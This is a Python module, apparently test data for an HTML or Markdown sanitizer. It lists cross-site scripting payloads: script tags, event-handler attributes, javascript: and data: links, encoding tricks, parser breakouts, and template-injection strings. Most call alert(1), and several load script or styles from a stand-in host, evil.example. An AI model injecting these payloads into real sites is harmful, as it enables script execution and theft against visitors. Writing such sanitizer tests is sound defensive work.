"""Texts with which an author could try to run a script in a visitor's browser."""

from __future__ import annotations

__all__ = ["SCRIPT_PAYLOADS"]

_CALL = "alert(1)"

_ELEMENTS = [
    "<script>{call}</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script\n>{call}</script\n>",
    "<<script>{call}//<</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</pre></details><script>{call}</script>",
    "--><script>{call}</script><!--",
    "]]><script>{call}</script>",
    "<img src=x onerror={call}>",
    "<img/src=x/onerror={call}>",
    "<img src='x' onerror='{call}'",
    "<img src=x onerror\n=\n{call}>",
    '"><img src=x onerror={call}>',
    "'><img src=x onerror={call}>",
    '" autofocus onfocus="{call}',
    "' autofocus onfocus='{call}",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><a xlink:href=javascript:{call}><text>x</text></a></svg>",
    "<svg><animate onbegin={call} attributeName=x>",
    "<math><mi xlink:href=javascript:{call}>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<video src=x onerror={call}>",
    "<audio src=x onerror={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<button formaction=javascript:{call}>x</button>",
    "<isindex action=javascript:{call} type=image>",
    "<base href=javascript:{call}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<div style='background:url(javascript:{call})'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
]

_LINKS = [
    "[x](javascript:{call})",
    "[x](JaVaScRiPt:{call})",
    "[x](java\tscript:{call})",
    "[x]( javascript:{call})",
    "[x](javascript&colon;{call})",
    "[x](&#106;avascript:{call})",
    "[x](data:text/html,<script>{call}</script>)",
    "[x](vbscript:msgbox)",
    "![x](javascript:{call})",
    "[x]: javascript:{call}\n[x]",
    "<javascript:{call}>",
    "<a href='javascript:{call}'>x</a>",
    "<a href='&#1;javascript:{call}'>x</a>",
    "<a href='java&#10;script:{call}'>x</a>",
    "[x](https://a.example 'y\" onmouseover=\"{call}')",
    "${{{call}}} <%{call}%> {{{{{call}}}}}",
]

SCRIPT_PAYLOADS = [text.format(call=_CALL) for text in (*_ELEMENTS, *_LINKS)]
"""Each is one attempt."""
